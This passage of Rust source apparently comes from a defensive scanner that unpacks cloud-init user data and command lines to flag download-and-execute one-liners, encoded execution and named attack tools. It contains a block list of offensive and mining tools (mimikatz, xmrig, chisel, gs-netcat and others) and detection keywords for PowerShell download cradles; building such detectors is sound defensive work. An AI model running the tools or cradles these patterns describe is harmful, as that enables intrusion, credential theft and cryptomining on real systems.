//! User data: what a VM runs on its first boot. AN0692 asks whether it fetches and
//! runs something from the network, hides what it runs, or drops known offensive
//! tooling. [`inspect_user_data`] unwraps the transports cloud-init itself unwraps
//! (base64, gzip, MIME multipart with base64 parts), reads each part the way cloud-init
//! would (`#cloud-config` YAML, `#!` scripts, `#include` URL lists, boothooks, archives)
//! and reports the lines that matter, with secrets blanked out.
//!
//! The shell reading is a heuristic lexer, not a shell: it knows quoting, pipelines,
//! command and process substitution and the usual command wrappers (`sudo`, `env`,
//! `nohup`, …), which is what download-and-run one-liners are made of. Ordinary
//! configuration (distribution packages, `apt-get install`, `systemctl enable`, plain
//! files) produces no findings.
//!
//! This module also decodes `aws ec2 describe-instance-attribute --attribute userData`
//! output into [`UserDataSeen`] events.

use crate::util::Text;
use crate::{DecodeError, RecordCtx};
use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
use base64::engine::{DecodePaddingMode, Engine as _};
use pullwatch_model::{exe_basename, Event, EventKind, Format, Ts, UserDataSeen};
use serde::de::{self, Deserializer, MapAccess, SeqAccess, Visitor};
use serde::Deserialize;
use std::fmt;
use std::io::Read;

/// Standard alphabet, padding optional: providers and tools differ on padding.
const B64: GeneralPurpose = GeneralPurpose::new(
    &base64::alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// Decompressed output is capped: user data is at most tens of KiB on every cloud,
/// and a gzip bomb must not take pullwatch down.
const MAX_INFLATED: u64 = 4 << 20;
/// Nesting of layers, MIME parts and archives.
const MAX_DEPTH: usize = 8;
/// Substitutions inside substitutions, `sh -c` inside `sh -c`.
const MAX_SHELL_DEPTH: usize = 4;
/// Findings quote at most this much of a line.
const MAX_LINE_CHARS: usize = 400;

/// Decodes `s` as base64 ignoring line breaks; `None` when it is not base64.
pub fn b64_decode(s: &str) -> Option<Vec<u8>> {
    let compact: Vec<u8> = s.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    if compact.is_empty() {
        return None;
    }
    B64.decode(&compact).ok()
}

/// Base64 of `s`, for other modules' fixtures.
#[cfg(test)]
pub(crate) fn tests_b64(s: &str) -> String {
    B64.encode(s)
}

/// User data as a transport carried it: base64 that decodes to text becomes the text;
/// anything else (plain text, or base64 of gzip) is kept as given, since
/// [`inspect_user_data`] unwraps base64 and gzip itself.
pub fn b64_text(s: &str) -> String {
    match b64_decode(s).map(String::from_utf8) {
        Some(Ok(text)) if looks_like_text(&text) => text,
        _ => s.to_string(),
    }
}

/// Printable text (allowing tabs and line breaks): what a script or config is.
fn looks_like_text(s: &str) -> bool {
    !s.is_empty()
        && s.chars()
            .all(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
}

/// What pullwatch found in one piece of user data.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct UserDataReport {
    /// Transport layers removed, outermost first.
    pub layers: Vec<Layer>,
    /// Every part read: one for a plain document, one per MIME part or archive item.
    pub parts: Vec<Part>,
    pub findings: Vec<Finding>,
    /// What could not be read (bad YAML, undecodable `write_files` content, limits).
    pub problems: Vec<String>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Layer {
    Base64,
    Gzip,
    /// Quoted-printable MIME part.
    QuotedPrintable,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Part {
    pub kind: PartKind,
    /// Where the part sits: `user-data`, `part 2 (text/x-shellscript)`, `archive[1]`.
    pub place: String,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub enum PartKind {
    CloudConfig,
    /// `#!` script; the interpreter from its first line.
    Script {
        interpreter: String,
    },
    Include {
        once: bool,
    },
    Boothook,
    PartHandler,
    CloudConfigArchive,
    CloudConfigJsonp,
    Multipart,
    Empty,
    /// Text with no cloud-init marker. Scanned as shell all the same, since GCP
    /// startup scripts and Windows scripts run without one.
    Unmarked,
    /// Bytes that are not text after every layer was removed.
    Binary,
}

/// One line of user data that matters, and why.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Finding {
    /// The line, with secrets replaced by `[REDACTED]`, trimmed and capped.
    pub line: String,
    pub why: Why,
    /// Where the line sits: `runcmd[2]`, `write_files /etc/rc.local`, `part 1 (…)`.
    pub place: String,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Why {
    /// A download tool fetches from the network.
    Download { tool: String },
    /// Fetched content is executed directly (`curl … | sh`, `bash <(wget …)`,
    /// `IEX (New-Object Net.WebClient).DownloadString(…)`).
    DownloadExecute,
    /// Encoded content is decoded and executed (`base64 -d | sh`, `powershell -enc`).
    EncodedExec,
    /// A file fetched earlier is made executable.
    ChmodFetched,
    /// A known offensive or mining tool is named.
    SuspiciousBinary { name: String },
    /// cloud-init fetches more user data from this URL (`#include`).
    IncludeUrl,
    /// GCP fetches and runs a startup script from this URL at every boot.
    StartupScriptUrl,
}

impl Why {
    pub fn name(&self) -> &'static str {
        match self {
            Why::Download { .. } => "download",
            Why::DownloadExecute => "download-execute",
            Why::EncodedExec => "encoded-exec",
            Why::ChmodFetched => "chmod-fetched",
            Why::SuspiciousBinary { .. } => "suspicious-binary",
            Why::IncludeUrl => "include-url",
            Why::StartupScriptUrl => "startup-script-url",
        }
    }
}

/// Tools named in user data that warrant a finding by name alone: miners, mass
/// scanners, tunnels and credential tools. Everyday tools (`nc`, `nmap`, `socat`) are
/// left out: they appear in too much ordinary provisioning.
pub const DEFAULT_SUSPICIOUS_BINARIES: &[&str] = &[
    "xmrig",
    "xmr-stak",
    "xmr-stak-cpu",
    "minerd",
    "cpuminer",
    "ccminer",
    "nbminer",
    "lolminer",
    "t-rex",
    "phoenixminer",
    "ethminer",
    "kinsing",
    "kdevtmpfsi",
    "masscan",
    "zmap",
    "pnscan",
    "ngrok",
    "chisel",
    "frpc",
    "gs-netcat",
    "gsocket",
    "mimikatz",
    "hydra",
    "linpeas",
];

#[derive(Clone, Debug)]
pub struct InspectOptions {
    /// Basenames compared as [`exe_basename`] forms them (lowercase, no `.exe`).
    pub suspicious_binaries: Vec<String>,
}

impl Default for InspectOptions {
    fn default() -> Self {
        InspectOptions {
            suspicious_binaries: DEFAULT_SUSPICIOUS_BINARIES
                .iter()
                .map(|s| s.to_string())
                .collect(),
        }
    }
}

/// Inspects user data with the built-in list of suspicious binaries.
pub fn inspect_user_data(bytes: &[u8]) -> UserDataReport {
    inspect_user_data_with(bytes, &InspectOptions::default())
}

pub fn inspect_user_data_with(bytes: &[u8], opts: &InspectOptions) -> UserDataReport {
    let mut ins = Inspector {
        opts,
        report: UserDataReport::default(),
        fetched: Vec::new(),
    };
    ins.blob(bytes, "user-data", 0, None, true);
    ins.report
}

/// Inspects one process command line (a guest's first-boot process) with the same
/// shell understanding as user data: download-and-execute, encoded execution, fetched
/// files made executable.
pub fn inspect_command_line(line: &str, opts: &InspectOptions) -> Vec<Finding> {
    let mut ins = Inspector {
        opts,
        report: UserDataReport::default(),
        fetched: Vec::new(),
    };
    ins.command_line(line, "command line", 0);
    ins.report.findings
}

/// The inspector the engine asks about user data and command lines.
#[derive(Clone, Debug, Default)]
pub struct ContentInspection {
    pub opts: InspectOptions,
}

fn to_model(f: Finding) -> pullwatch_model::inspect::ContentFinding {
    pullwatch_model::inspect::ContentFinding {
        line: f.line,
        why: f.why.name().to_string(),
        place: f.place,
    }
}

impl pullwatch_model::inspect::ContentInspector for ContentInspection {
    fn user_data(&self, content: &str) -> Vec<pullwatch_model::inspect::ContentFinding> {
        inspect_user_data_with(content.as_bytes(), &self.opts)
            .findings
            .into_iter()
            .map(to_model)
            .collect()
    }

    fn command_line(&self, line: &str) -> Vec<pullwatch_model::inspect::ContentFinding> {
        inspect_command_line(line, &self.opts)
            .into_iter()
            .filter(|f| !matches!(f.why, Why::Download { .. }))
            .map(to_model)
            .collect()
    }

    fn startup_script_url(&self, url: &str) -> pullwatch_model::inspect::ContentFinding {
        to_model(startup_script_url_finding(url))
    }
}

/// The finding a GCP `startup-script-url` metadata value deserves.
pub fn startup_script_url_finding(url: &str) -> Finding {
    Finding {
        line: cap(&redact(url.trim())),
        why: Why::StartupScriptUrl,
        place: "metadata startup-script-url".into(),
    }
}

struct Inspector<'o> {
    opts: &'o InspectOptions,
    report: UserDataReport,
    /// Basenames of files fetched so far: scripts and `runcmd` items run in one
    /// instance, so a download in one and a `chmod +x` in another still connect.
    fetched: Vec<String>,
}

impl Inspector<'_> {
    /// `top` is true while only transport layers have been removed, so the layers
    /// recorded describe the user data as a whole.
    fn blob(&mut self, bytes: &[u8], place: &str, depth: usize, ctype: Option<&str>, top: bool) {
        if depth > MAX_DEPTH {
            self.report
                .problems
                .push(format!("{place}: nested too deeply, not inspected"));
            return;
        }
        if bytes.starts_with(&[0x1f, 0x8b]) {
            match gunzip(bytes) {
                Ok(inner) => {
                    if top {
                        self.report.layers.push(Layer::Gzip);
                    }
                    self.blob(&inner, place, depth + 1, ctype, top);
                }
                Err(e) => self.report.problems.push(format!("{place}: gzip: {e}")),
            }
            return;
        }
        let text = match std::str::from_utf8(bytes) {
            Ok(t) => t,
            Err(_) => {
                self.report.parts.push(Part {
                    kind: PartKind::Binary,
                    place: place.to_string(),
                });
                return;
            }
        };
        if let Some(inner) = whole_base64(text) {
            if top {
                self.report.layers.push(Layer::Base64);
            }
            self.blob(&inner, place, depth + 1, ctype, top);
            return;
        }
        self.text(
            text.strip_prefix('\u{feff}').unwrap_or(text),
            place,
            depth,
            ctype,
        );
    }

    fn text(&mut self, text: &str, place: &str, depth: usize, ctype: Option<&str>) {
        // cloud-init matches the marker at the very start; leading blank lines (left by
        // a MIME part's extra separator line) are skipped here so nothing hides behind one.
        let first = text
            .lines()
            .find(|l| !l.trim().is_empty())
            .unwrap_or("")
            .trim_end();
        let lower_first = first.to_ascii_lowercase();
        // Jinja-templated parts carry the real header on their second line.
        if lower_first.starts_with("## template:") {
            let rest = text.trim_start().split_once('\n').map_or("", |(_, r)| r);
            return self.text(rest, place, depth, ctype);
        }
        let ctype = ctype.map(|c| c.to_ascii_lowercase());
        let ct = ctype.as_deref().unwrap_or("");
        let kind = if text.trim().is_empty() {
            PartKind::Empty
        } else if lower_first.starts_with("#cloud-config-archive")
            || ct == "text/cloud-config-archive"
        {
            PartKind::CloudConfigArchive
        } else if lower_first.starts_with("#cloud-config-jsonp") || ct == "text/cloud-config-jsonp"
        {
            PartKind::CloudConfigJsonp
        } else if lower_first.starts_with("#cloud-config") || ct == "text/cloud-config" {
            PartKind::CloudConfig
        } else if lower_first.starts_with("#include-once") || ct == "text/x-include-once-url" {
            PartKind::Include { once: true }
        } else if lower_first.starts_with("#include") || ct == "text/x-include-url" {
            PartKind::Include { once: false }
        } else if lower_first.starts_with("#cloud-boothook") || ct == "text/cloud-boothook" {
            PartKind::Boothook
        } else if lower_first.starts_with("#part-handler") || ct == "text/part-handler" {
            PartKind::PartHandler
        } else if let Some(interp) = first.strip_prefix("#!") {
            PartKind::Script {
                interpreter: interp.trim().to_string(),
            }
        } else if is_mime(text) {
            PartKind::Multipart
        } else if ct.starts_with("text/x-shellscript") {
            PartKind::Script {
                interpreter: String::new(),
            }
        } else {
            PartKind::Unmarked
        };
        if kind != PartKind::Multipart {
            self.report.parts.push(Part {
                kind: kind.clone(),
                place: place.to_string(),
            });
        }
        match kind {
            PartKind::CloudConfig => self.cloud_config(text, place),
            PartKind::CloudConfigArchive => self.archive(text, place, depth),
            PartKind::Include { .. } => {
                for line in text.lines() {
                    let l = line.trim();
                    if l.is_empty() || l.starts_with('#') {
                        continue;
                    }
                    self.push(l, Why::IncludeUrl, place);
                }
            }
            PartKind::Boothook
            | PartKind::PartHandler
            | PartKind::Script { .. }
            | PartKind::Unmarked => self.script(text, place),
            PartKind::Multipart => self.mime(text, place, depth),
            PartKind::CloudConfigJsonp | PartKind::Empty | PartKind::Binary => {}
        }
    }

    fn push(&mut self, line: &str, why: Why, place: &str) {
        let f = Finding {
            line: cap(&redact(line.trim())),
            why,
            place: place.to_string(),
        };
        if !self.report.findings.contains(&f) {
            self.report.findings.push(f);
        }
    }

    /// A shell script (or shell-like text): each logical line, comments skipped.
    fn script(&mut self, text: &str, place: &str) {
        for line in logical_lines(text) {
            self.command_line(&line, place, 0);
        }
    }

    /// Scans one command line and records its findings against it; base64 payloads
    /// found beside a decoder are decoded and their lines read in turn.
    fn command_line(&mut self, line: &str, place: &str, depth: usize) {
        let whys = self.scan(line, depth);
        for w in whys.whys {
            self.push(line, w, place);
        }
        for (decoded, _) in whys.decoded {
            let dplace = format!("{place} (decoded base64)");
            for l in logical_lines(&decoded) {
                let inner = self.scan(&l, depth + 1);
                for w in inner.whys {
                    self.push(&l, w, &dplace);
                }
            }
        }
    }

    fn scan(&mut self, line: &str, depth: usize) -> Scan {
        let mut s = Scan::default();
        if depth > MAX_SHELL_DEPTH {
            return s;
        }
        let toks = lex(line);
        let pipelines = split_pipelines(toks);
        for p in &pipelines {
            self.pipeline(p, &mut s, depth);
        }
        self.powershell(line, &mut s);
        // A plain download only counts when nothing stronger explains the line.
        if s.whys
            .iter()
            .any(|w| matches!(w, Why::DownloadExecute | Why::ChmodFetched))
        {
            s.whys.retain(|w| !matches!(w, Why::Download { .. }));
        }
        s
    }

    fn pipeline(&mut self, p: &Pipeline, s: &mut Scan, depth: usize) {
        let mut dl_stage: Option<usize> = None;
        let mut decode_stage: Option<usize> = None;
        for (i, cmd) in p.stages.iter().enumerate() {
            let Some((name, args)) = cmd.resolve() else {
                continue;
            };
            // Substitutions run first; what they produce may be executed by this command.
            let mut sub_dl = false;
            let mut sub_decode = false;
            for w in cmd.words.iter().chain(cmd.redirs.iter().map(|r| &r.1)) {
                for sub in &w.subs {
                    let inner = self.scan(sub, depth + 1);
                    sub_dl |= inner.download;
                    sub_decode |= inner.decode;
                    s.absorb(inner);
                }
            }
            for bin in self.suspicious_names(cmd) {
                s.add(Why::SuspiciousBinary { name: bin });
            }
            if let Some(tool) = download_tool(&name, args).filter(|_| !metadata_only(args)) {
                s.download = true;
                s.add(Why::Download {
                    tool: tool.to_string(),
                });
                dl_stage.get_or_insert(i);
                for out in download_outputs(&name, args, cmd) {
                    if !self.fetched.contains(&out) {
                        self.fetched.push(out);
                    }
                }
            }
            if is_decoder(&name, args) {
                s.decode = true;
                decode_stage.get_or_insert(i);
                // The payload usually rides in an earlier `echo`/`printf` or a here-string.
                let literals = p.stages[..i]
                    .iter()
                    .flat_map(|c| c.words.iter().skip(1))
                    .chain(cmd.redirs.iter().filter(|r| r.0 == "<<<").map(|r| &r.1));
                for w in literals {
                    if let Some(text) = base64_payload(&w.text) {
                        s.decoded.push((text, i));
                    }
                }
            }
            let interp = Interp::of(&name);
            if let Some(interp) = interp {
                if interp.reads_stdin(args) && i > 0 {
                    if dl_stage.is_some_and(|d| d < i) {
                        s.add(Why::DownloadExecute);
                    }
                    if decode_stage.is_some_and(|d| d < i) {
                        s.add(Why::EncodedExec);
                    }
                }
                if sub_dl {
                    s.add(Why::DownloadExecute);
                }
                if sub_decode {
                    s.add(Why::EncodedExec);
                }
                // `sh -c '…'`: the code is a command line of its own.
                if let Some(code) = interp.inline_code(args) {
                    let inner = self.scan(&code.text, depth + 1);
                    s.absorb(inner);
                }
                if interp == Interp::PowerShell {
                    if let Some(decoded) = powershell_encoded(args) {
                        s.add(Why::EncodedExec);
                        s.decoded.push((decoded, i));
                    }
                }
            }
            if name == "chmod" && self.chmod_fetched(args) {
                s.add(Why::ChmodFetched);
            }
        }
        // `curl … > /tmp/x`: the redirect target is the fetched file.
        if dl_stage.is_some() {
            if let Some(last) = p.stages.last() {
                for (op, target) in &last.redirs {
                    if op.starts_with('>') {
                        let b = basename(&target.text);
                        if !b.is_empty() && !self.fetched.contains(&b) {
                            self.fetched.push(b);
                        }
                    }
                }
            }
        }
    }

    /// PowerShell cradles do not lex as shell: look at the text.
    fn powershell(&mut self, line: &str, s: &mut Scan) {
        let l = line.to_ascii_lowercase();
        let fetch = [
            "downloadstring(",
            "downloadfile(",
            "downloaddata(",
            "net.webclient",
            "invoke-webrequest",
            "invoke-restmethod",
            "start-bitstransfer",
        ]
        .iter()
        .any(|k| l.contains(k));
        let exec = has_word(&l, "iex") || l.contains("invoke-expression");
        if fetch && exec {
            s.download = true;
            s.add(Why::DownloadExecute);
        } else if fetch && !s.download {
            s.download = true;
            s.add(Why::Download {
                tool: "powershell".into(),
            });
        }
        if l.contains("frombase64string(") && exec {
            s.add(Why::EncodedExec);
        }
    }

    fn suspicious_names(&self, cmd: &Command) -> Vec<String> {
        let mut names = Vec::new();
        for w in cmd.words.iter().chain(cmd.redirs.iter().map(|r| &r.1)) {
            let base = basename(&w.text);
            let stem = strip_archive_ext(&base);
            if let Some(hit) = self
                .opts
                .suspicious_binaries
                .iter()
                .find(|b| **b == base || **b == stem)
            {
                if !names.contains(hit) {
                    names.push(hit.clone());
                }
            }
        }
        names
    }

    fn chmod_fetched(&self, args: &[Word]) -> bool {
        let mut words = args
            .iter()
            .map(|w| w.text.as_str())
            .filter(|a| !a.starts_with('-') || is_mode(a));
        let Some(mode) = words.next() else {
            return false;
        };
        if !is_exec_mode(mode) {
            return false;
        }
        words.any(|t| self.fetched.contains(&basename(t)))
    }

    fn cloud_config(&mut self, text: &str, place: &str) {
        let doc: Yaml = match parse_yaml(text) {
            Ok(y) => y,
            Err(e) => {
                self.report
                    .problems
                    .push(format!("{place}: cloud-config YAML: {e}"));
                // Still read what can be read: every line as a command.
                self.script(text, place);
                return;
            }
        };
        let Yaml::Map(entries) = doc else {
            return;
        };
        for (k, v) in &entries {
            let Some(key) = k.as_str() else { continue };
            match key {
                "runcmd" | "bootcmd" => {
                    for (i, item) in v.items().iter().enumerate() {
                        let p = sub_place(place, &format!("{key}[{i}]"));
                        match item {
                            Yaml::Seq(argv) => {
                                let line = join_argv(argv);
                                self.command_line(&line, &p, 0);
                            }
                            other => {
                                if let Some(s) = other.scalar() {
                                    for line in logical_lines(&s) {
                                        self.command_line(&line, &p, 0);
                                    }
                                }
                            }
                        }
                    }
                }
                "write_files" => {
                    for item in v.items() {
                        self.write_file(&item, place);
                    }
                }
                "packages" => {
                    for item in v.items() {
                        let name = match item {
                            Yaml::Seq(s) => s.first().and_then(Yaml::scalar),
                            other => other.scalar(),
                        };
                        if let Some(name) = name {
                            let base = exe_basename(&name);
                            if self.opts.suspicious_binaries.contains(&base) {
                                let p = sub_place(place, "packages");
                                self.push(
                                    &format!("packages: {name}"),
                                    Why::SuspiciousBinary { name: base },
                                    &p,
                                );
                            }
                        }
                    }
                }
                _ => {}
            }
        }
    }

    fn write_file(&mut self, item: &Yaml, place: &str) {
        let path = item.get("path").and_then(Yaml::scalar).unwrap_or_default();
        let wplace = sub_place(place, &format!("write_files {path}"));
        if let Some(uri) = item
            .get("source")
            .and_then(|s| s.get("uri"))
            .and_then(Yaml::scalar)
        {
            self.push(
                &format!("write_files {path} source: {uri}"),
                Why::Download {
                    tool: "cloud-init write_files".into(),
                },
                &wplace,
            );
        }
        let base = exe_basename(&path);
        if !base.is_empty() && self.opts.suspicious_binaries.contains(&base) {
            self.push(
                &format!("write_files path: {path}"),
                Why::SuspiciousBinary { name: base },
                &wplace,
            );
        }
        let encoding = item
            .get("encoding")
            .and_then(Yaml::scalar)
            .unwrap_or_default()
            .to_ascii_lowercase();
        let content: Vec<u8> = match item.get("content") {
            Some(Yaml::Bytes(b)) => b.clone(),
            Some(other) => other.scalar().unwrap_or_default().into_bytes(),
            None => return,
        };
        let decoded = match decode_write_files(&content, &encoding) {
            Ok(d) => d,
            Err(e) => {
                self.report.problems.push(format!("{wplace}: {e}"));
                return;
            }
        };
        let Ok(text) = std::str::from_utf8(&decoded) else {
            return;
        };
        let perms = item
            .get("permissions")
            .and_then(Yaml::scalar)
            .unwrap_or_default();
        // Only what will run is read as shell: scripts, executables, cron entries.
        let cron = path.starts_with("/etc/cron")
            || path.starts_with("/var/spool/cron")
            || path == "/etc/crontab";
        if cron && !text.starts_with("#!") {
            // System crontabs name a user before the command; per-user ones do not.
            let with_user = path == "/etc/crontab" || path.starts_with("/etc/cron.d/");
            for line in logical_lines(text) {
                if let Some(cmd) = cron_command(&line, with_user) {
                    let found = self.scan(cmd, 0);
                    for w in found.whys {
                        self.push(&line, w, &wplace);
                    }
                }
            }
        } else if text.starts_with("#!") || is_exec_mode(&perms) || path == "/etc/rc.local" {
            self.script(text, &wplace);
        }
    }

    fn archive(&mut self, text: &str, place: &str, depth: usize) {
        let doc: Yaml = match parse_yaml(text) {
            Ok(y) => y,
            Err(e) => {
                self.report
                    .problems
                    .push(format!("{place}: cloud-config-archive YAML: {e}"));
                return;
            }
        };
        for (i, item) in doc.items().iter().enumerate() {
            let p = sub_place(place, &format!("archive[{i}]"));
            match item {
                Yaml::Map(_) => {
                    let ctype = item.get("type").and_then(Yaml::scalar);
                    let content = match item.get("content") {
                        Some(Yaml::Bytes(b)) => b.clone(),
                        Some(c) => c.scalar().unwrap_or_default().into_bytes(),
                        None => continue,
                    };
                    self.blob(&content, &p, depth + 1, ctype.as_deref(), false);
                }
                other => {
                    if let Some(s) = other.scalar() {
                        self.blob(s.as_bytes(), &p, depth + 1, None, false);
                    }
                }
            }
        }
    }

    fn mime(&mut self, text: &str, place: &str, depth: usize) {
        let (headers, body) = split_headers(text);
        let ctype = header(&headers, "content-type").unwrap_or_default();
        let lower = ctype.to_ascii_lowercase();
        if !lower.starts_with("multipart/") {
            // A single part with headers.
            self.mime_part(&headers, body, place, depth);
            return;
        }
        self.report.parts.push(Part {
            kind: PartKind::Multipart,
            place: place.to_string(),
        });
        let Some(boundary) = param(&ctype, "boundary") else {
            self.report
                .problems
                .push(format!("{place}: multipart without a boundary"));
            return;
        };
        let delim = format!("--{boundary}");
        let close = format!("{delim}--");
        let mut parts: Vec<String> = Vec::new();
        let mut cur: Option<Vec<&str>> = None;
        for line in body.split('\n') {
            let t = line.trim_end();
            if t == delim || t == close {
                if let Some(c) = cur.take() {
                    parts.push(c.join("\n"));
                }
                if t == close {
                    break;
                }
                cur = Some(Vec::new());
            } else if let Some(c) = cur.as_mut() {
                c.push(line);
            }
        }
        if let Some(c) = cur.take() {
            parts.push(c.join("\n"));
        }
        for (i, part) in parts.iter().enumerate() {
            let (h, b) = split_headers(part);
            let ct = header(&h, "content-type").unwrap_or_default();
            let short = ct.split(';').next().unwrap_or("").trim().to_string();
            let p = sub_place(place, &format!("part {} ({short})", i + 1));
            self.mime_part(&h, b, &p, depth + 1);
        }
    }

    fn mime_part(&mut self, headers: &[(String, String)], body: &str, place: &str, depth: usize) {
        let ct = header(headers, "content-type").unwrap_or_default();
        let short = ct
            .split(';')
            .next()
            .unwrap_or("")
            .trim()
            .to_ascii_lowercase();
        let cte = header(headers, "content-transfer-encoding")
            .unwrap_or_default()
            .trim()
            .to_ascii_lowercase();
        let body = body.strip_suffix('\n').unwrap_or(body);
        let bytes: Vec<u8> = match cte.as_str() {
            "base64" => match b64_decode(body) {
                Some(b) => b,
                None => {
                    self.report
                        .problems
                        .push(format!("{place}: invalid base64 body"));
                    return;
                }
            },
            "quoted-printable" => quoted_printable(body),
            _ => body.as_bytes().to_vec(),
        };
        if short.starts_with("multipart/") {
            // A nested multipart: give it its own header back.
            let text = String::from_utf8_lossy(&bytes);
            let rebuilt = format!("Content-Type: {ct}\n\n{text}");
            self.mime(&rebuilt, place, depth + 1);
            return;
        }
        let hint = (!short.is_empty() && short != "text/plain").then_some(short.as_str());
        self.blob(&bytes, place, depth + 1, hint, false);
    }
}

/// What scanning one command line found.
#[derive(Default)]
struct Scan {
    whys: Vec<Why>,
    /// A download command ran somewhere in the line.
    download: bool,
    /// A decoder ran somewhere in the line.
    decode: bool,
    /// Base64 payloads found next to a decoder, decoded.
    decoded: Vec<(String, usize)>,
}

impl Scan {
    fn add(&mut self, w: Why) {
        if !self.whys.contains(&w) {
            self.whys.push(w);
        }
    }

    fn absorb(&mut self, other: Scan) {
        for w in other.whys {
            self.add(w);
        }
        self.download |= other.download;
        self.decode |= other.decode;
        self.decoded.extend(other.decoded);
    }
}

// ---- shell lexing ----------------------------------------------------------------

/// A shell word: its text with quotes removed, and the command or process
/// substitutions inside it, which the shell runs before the command.
#[derive(Clone, Debug, Default, PartialEq)]
struct Word {
    text: String,
    subs: Vec<String>,
    /// Quoted words are never operators or comments.
    quoted: bool,
}

#[derive(Clone, Debug, PartialEq)]
enum Tok {
    Word(Word),
    /// `;`, `&&`, `||`, `&`, `(`, `)`, newline: ends a command and its pipeline.
    Sep,
    Pipe,
    /// A redirection operator; the next word is its target.
    Redir(String),
}

fn lex(line: &str) -> Vec<Tok> {
    let chars: Vec<char> = line.chars().collect();
    let mut toks = Vec::new();
    let mut cur = Word::default();
    let mut in_word = false;
    let mut i = 0;
    let flush = |cur: &mut Word, in_word: &mut bool, toks: &mut Vec<Tok>| {
        if *in_word {
            toks.push(Tok::Word(std::mem::take(cur)));
            *in_word = false;
        }
    };
    while i < chars.len() {
        let c = chars[i];
        let next = chars.get(i + 1).copied();
        match c {
            ' ' | '\t' | '\r' => {
                flush(&mut cur, &mut in_word, &mut toks);
                i += 1;
            }
            '\n' => {
                flush(&mut cur, &mut in_word, &mut toks);
                toks.push(Tok::Sep);
                i += 1;
            }
            '#' if !in_word => break,
            '\\' => {
                if let Some(n) = next {
                    if n != '\n' {
                        cur.text.push(n);
                        in_word = true;
                    }
                }
                i += 2;
            }
            '\'' => {
                in_word = true;
                cur.quoted = true;
                let end = chars[i + 1..]
                    .iter()
                    .position(|&x| x == '\'')
                    .map_or(chars.len(), |p| i + 1 + p);
                cur.text.extend(&chars[(i + 1).min(chars.len())..end]);
                i = end + 1;
            }
            '"' => {
                in_word = true;
                cur.quoted = true;
                i += 1;
                while i < chars.len() && chars[i] != '"' {
                    match chars[i] {
                        '\\' if i + 1 < chars.len() => {
                            cur.text.push(chars[i + 1]);
                            i += 2;
                        }
                        '$' if chars.get(i + 1) == Some(&'(') => {
                            let (inner, end) = balanced(&chars, i + 2);
                            cur.text.push_str(&format!("$({inner})"));
                            cur.subs.push(inner);
                            i = end;
                        }
                        '`' => {
                            let end = chars[i + 1..]
                                .iter()
                                .position(|&x| x == '`')
                                .map_or(chars.len(), |p| i + 1 + p);
                            let inner: String = chars[i + 1..end].iter().collect();
                            cur.subs.push(inner);
                            i = end + 1;
                        }
                        ch => {
                            cur.text.push(ch);
                            i += 1;
                        }
                    }
                }
                i += 1;
            }
            '$' if next == Some('(') => {
                let (inner, end) = balanced(&chars, i + 2);
                cur.text.push_str(&format!("$({inner})"));
                cur.subs.push(inner);
                in_word = true;
                i = end;
            }
            '`' => {
                let end = chars[i + 1..]
                    .iter()
                    .position(|&x| x == '`')
                    .map_or(chars.len(), |p| i + 1 + p);
                let inner: String = chars[(i + 1).min(chars.len())..end].iter().collect();
                cur.subs.push(inner);
                in_word = true;
                i = end + 1;
            }
            '<' | '>' if next == Some('(') && !in_word => {
                let (inner, end) = balanced(&chars, i + 2);
                cur.text.push_str(&format!("{c}({inner})"));
                cur.subs.push(inner);
                in_word = true;
                i = end;
            }
            '<' | '>' => {
                // `2>`, `&>`: a file-descriptor prefix belongs to the operator.
                if in_word && cur.text.chars().all(|ch| ch.is_ascii_digit()) && !cur.quoted {
                    cur = Word::default();
                    in_word = false;
                }
                flush(&mut cur, &mut in_word, &mut toks);
                let mut op = String::from(c);
                i += 1;
                while i < chars.len() && matches!(chars[i], '<' | '>' | '&' | '|') && op.len() < 3 {
                    op.push(chars[i]);
                    i += 1;
                }
                // `>&2`, `2>&1`: duplicating a descriptor names no file.
                if op.ends_with('&') {
                    while i < chars.len() && (chars[i].is_ascii_digit() || chars[i] == '-') {
                        i += 1;
                    }
                    continue;
                }
                toks.push(Tok::Redir(op));
            }
            '|' => {
                flush(&mut cur, &mut in_word, &mut toks);
                if next == Some('|') {
                    toks.push(Tok::Sep);
                    i += 2;
                } else {
                    toks.push(Tok::Pipe);
                    i += if next == Some('&') { 2 } else { 1 };
                }
            }
            '&' if next == Some('>') => {
                flush(&mut cur, &mut in_word, &mut toks);
                i += 1;
            }
            ';' | '&' | '(' | ')' => {
                flush(&mut cur, &mut in_word, &mut toks);
                toks.push(Tok::Sep);
                i += 1;
            }
            ch => {
                cur.text.push(ch);
                in_word = true;
                i += 1;
            }
        }
    }
    flush(&mut cur, &mut in_word, &mut toks);
    toks
}

/// The text up to the `)` closing a `(` opened before `start`, and the index after it.
fn balanced(chars: &[char], start: usize) -> (String, usize) {
    let mut depth = 1;
    let mut i = start;
    let mut quote: Option<char> = None;
    while i < chars.len() {
        let c = chars[i];
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None => match c {
                '\'' | '"' => quote = Some(c),
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        return (chars[start..i].iter().collect(), i + 1);
                    }
                }
                _ => {}
            },
        }
        i += 1;
    }
    (
        chars[start.min(chars.len())..].iter().collect(),
        chars.len(),
    )
}

#[derive(Debug, Default)]
struct Command {
    words: Vec<Word>,
    /// (operator, target)
    redirs: Vec<(String, Word)>,
}

#[derive(Debug, Default)]
struct Pipeline {
    stages: Vec<Command>,
}

fn split_pipelines(toks: Vec<Tok>) -> Vec<Pipeline> {
    let mut out = Vec::new();
    let mut p = Pipeline::default();
    let mut cmd = Command::default();
    let mut pending_redir: Option<String> = None;
    for t in toks {
        match t {
            Tok::Word(w) => match pending_redir.take() {
                Some(op) => cmd.redirs.push((op, w)),
                None => cmd.words.push(w),
            },
            Tok::Redir(op) => pending_redir = Some(op),
            Tok::Pipe => {
                p.stages.push(std::mem::take(&mut cmd));
            }
            Tok::Sep => {
